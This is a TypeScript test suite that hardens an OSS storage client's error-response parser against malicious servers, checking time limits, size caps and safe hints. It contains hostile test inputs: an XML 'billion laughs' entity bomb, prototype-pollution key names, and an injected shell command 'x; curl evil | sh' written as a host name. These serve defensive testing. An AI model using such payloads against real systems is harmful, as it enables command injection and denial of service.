// Error answers of a server that means no good, or is broken: read in time, cut to what can be told, and never a failure.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { exitCodeOf } from '../../src/cli/exit-codes.ts';
import { BAD_ERROR_RESPONSE, OssServiceError, type ServiceErrorFields } from '../../src/errors.ts';
import { readServiceError } from '../../src/oss/error-body.ts';
import { serviceError } from '../support/errors.ts';
import { hostileText, withinMs } from '../support/hostile.ts';

const HALF_MIB = 512 * 1024;

async function* pieces(text: string): AsyncGenerator<Uint8Array> {
  const bytes = Buffer.from(text);
  for (let at = 0; at < bytes.length; at += 65_536) yield bytes.subarray(at, at + 65_536);
}

function read(body: string, headers: Record<string, string> = {}, status = 400): Promise<ServiceErrorFields> {
  return readServiceError({ status, headers, body: pieces(body) });
}

function expectBounded(fields: ServiceErrorFields): void {
  expect(fields.ossCode).toMatch(/^[\w.-]{1,64}$/);
  for (const text of [fields.requestId, fields.ec, fields.hostId]) {
    expect(text?.length ?? 0).toBeLessThanOrEqual(201);
  }
  expect(Object.keys(fields.elements ?? {}).length).toBeLessThanOrEqual(32);
  const error = serviceError(fields);
  expect(error.message.length).toBeLessThan(1200);
  expect(typeof (error.hint ?? '')).toBe('string');
  expect([64, 65, 66, 69, 73, 75, 77]).toContain(exitCodeOf(error));
}

describe('a body of half a MiB is answered at once:', () => {
  const long = (piece: string, before = '', after = ''): string =>
    before + piece.repeat(HALF_MIB / piece.length) + after;

  test.each([
    ['<', long('<')],
    ['< and blanks', long('< ')],
    ['<Error> without an end', long('<Error>')],
    ['elements in elements', long('<a>', '<Error>')],
    ['carriage returns', `<Error>${'\r'.repeat(60_000)}</Error>`],
    ['carriage returns and no end', long('\r', '<Error>')],
    ['blanks', long(' ', '<Error><Code>x', 'x</Code></Error>')],
    ['entities', long('&amp;', '<Error><Message>', '</Message></Error>')],
    ['comments', long('<!--', '<Error>')],
    ['brackets', long(']', '<!DOCTYPE x [<Error>')],
    ['a code', long('A', '<Error><Code>', '</Code></Error>')],
  ])('%s', async (_, body) => {
    expectBounded(await withinMs(2000, () => read(body)));
  });
});

test('a document that expands is no answer of OSS', async () => {
  const laughs = Array.from({ length: 30 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);
  const bomb = `<!DOCTYPE Error [<!ENTITY l0 "ha">${laughs.join('')}]>`;
  const fields = await withinMs(2000, () =>
    read(`${bomb}<Error><Code>AccessDenied</Code><Message>&l30;</Message></Error>`),
  );
  expect(fields).toMatchObject({ ossCode: BAD_ERROR_RESPONSE, elements: {} });
  expectBounded(fields);
});

describe('what the answer says is cut to what a line can tell:', () => {
  const element = (name: string, value: string): string => `<Error><${name}>${value}</${name}></Error>`;

  test('a code that is not written like one of OSS is none', async () => {
    for (const code of ['A'.repeat(50_000), 'Access Denied', '\u202eDenied']) {
      expect(await read(element('Code', code))).toMatchObject({
        ossCode: BAD_ERROR_RESPONSE,
        foreignBody: expect.stringMatching(/^.{1,201}$/u),
      });
    }
  });

  test('a message, and what support asks for', async () => {
    const long = 'x'.repeat(50_000);
    const told = ['Message', 'RequestId', 'HostId', 'EC']
      .map((name) => `<${name}>${long}</${name}>`)
      .join('');
    expectBounded(await read(`<Error><Code>AccessDenied</Code>${told.slice(0, 60_000)}</Error>`));
    const headers = { 'x-oss-request-id': long, 'x-oss-ec': long };
    expectBounded(await read('', headers, 404));
    expectBounded(await read(`<Error><Code>A</Code><Message>${long}</Message></Error>`));
  });

  test('elements without an end', async () => {
    const many = Array.from({ length: 3000 }, (_, i) => `<e${i}>x</e${i}>`).join('');
    expectBounded(await read(`<Error><Code>A</Code>${many}</Error>`));
  });

  test('a server that no host name is, is not recommended', async () => {
    const hintFor = async (host: string): Promise<string | undefined> =>
      serviceError(
        await read(`<Error><Code>AccessDenied</Code><Endpoint>${host}</Endpoint></Error>`, {}, 403),
      ).hint;
    expect(await hintFor('oss-cn-beijing.aliyuncs.com')).toContain('oss-cn-beijing.aliyuncs.com');
    for (const host of ['x; curl evil | sh', 'h'.repeat(10_000)])
      expect(await hintFor(host)).toContain('RAM policy');
  });

  test.each(['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf'])(
    'a code that every object has a property of: %s',
    async (word) => {
      const named = serviceError(await read(element('Code', word)));
      expect(named).toMatchObject({ code: word, hint: undefined });
      expect(exitCodeOf(named)).toBe(69);
      expect(await read('', { 'x-oss-ec': word })).toMatchObject({ ossCode: BAD_ERROR_RESPONSE });
    },
  );
});

test('any body and any headers make an error, and nothing else', async () => {
  const header = fc.constantFrom('x-oss-err', 'x-oss-ec', 'x-oss-request-id', 'date', 'retry-after');
  await fc.assert(
    fc.asyncProperty(
      fc.dictionary(header, hostileText),
      fc.oneof(
        hostileText,
        hostileText.map((text) => `<Error><Code>${text}</Code></Error>`),
      ),
      fc.integer({ min: 300, max: 999 }),
      async (headers, body, status) => {
        const encoded = headers['x-oss-err'];
        const all =
          encoded === undefined
            ? headers
            : { ...headers, 'x-oss-err': Buffer.from(encoded).toString('base64') };
        const fields = await read(body, all, status);
        expectBounded(fields);
        const error = new OssServiceError({ kind: 'head', url: 'oss://demo/a' }, fields);
        expect(error.ossCode === undefined).toBe(error.code === BAD_ERROR_RESPONSE);
      },
    ),
  );
});
